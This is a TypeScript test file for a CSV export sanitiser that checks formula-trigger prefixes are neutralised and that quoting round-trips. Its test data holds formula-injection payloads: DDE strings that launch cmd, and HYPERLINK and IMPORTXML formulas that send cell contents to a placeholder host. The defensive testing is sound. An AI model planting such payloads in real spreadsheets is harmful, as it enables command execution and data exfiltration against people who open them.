import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { csvRow, neutralised } from './csv-row'

/** Beginnings that make a cell a formula in Excel, WPS, LibreOffice or Google Sheets, and what stands behind them. */
const OPENERS = [
  '=',
  '+',
  '-',
  '@',
  '＝',
  '＋',
  '－',
  '＠',
  '\t=',
  '\r=',
  '\n=',
  '\0=',
  ' =',
  '\u00a0=',
  '　＝',
  '﹣',
]
const PAYLOADS = [
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://example.com/"&A1,"看")',
  'IMPORTXML(CONCAT("http://example.com/?v=",A1),"//a")',
  "SUM(1+1)*cmd|' /C calc'!A0",
  'DDE("cmd";"/C calc";"x")',
]
const ATTACKS = OPENERS.flatMap((opener) => PAYLOADS.map((payload) => opener + payload))

/** A reader of RFC 4180, written apart from the writer. */
function read(line: string): string[] {
  const cells: string[] = []
  const cell = /(?:"((?:[^"]|"")*)"|([^,\r\n]*))(,|\r\n$)/gy
  for (let m = cell.exec(line); m; m = cell.exec(line)) {
    cells.push(m[1] === undefined ? (m[2] ?? '') : m[1].replaceAll('""', '"'))
    if (m[3] !== ',') break
  }
  return cells
}

describe('a cell of an export', () => {
  it.each(ATTACKS)('%j does not begin a formula', (attack) => {
    const [first = ''] = read(csvRow([attack, 'x']))
    expect(first).toBe(`'${attack}`)
  })

  it.each([
    ['+86 139 1234 0013', "'+86 139 1234 0013"],
    ['13912340013', '13912340013'],
    ['温州博爱骨科医院', '温州博爱骨科医院'],
    ['a=b', 'a=b'],
    ['', ''],
  ])('%j is read as %j', (text, shown) => {
    expect(neutralised(text)).toBe(shown)
  })

  it('comes back as it went in, whatever else is in it', () => {
    const text = fc.string({ unit: fc.constantFrom(...'ab"\',;=+ \r\n\t王𠮷') })
    fc.assert(
      fc.property(fc.array(text, { minLength: 1, maxLength: 4 }), (cells) => {
        expect(read(csvRow(cells))).toEqual(cells.map(neutralised))
      }),
    )
  })
})
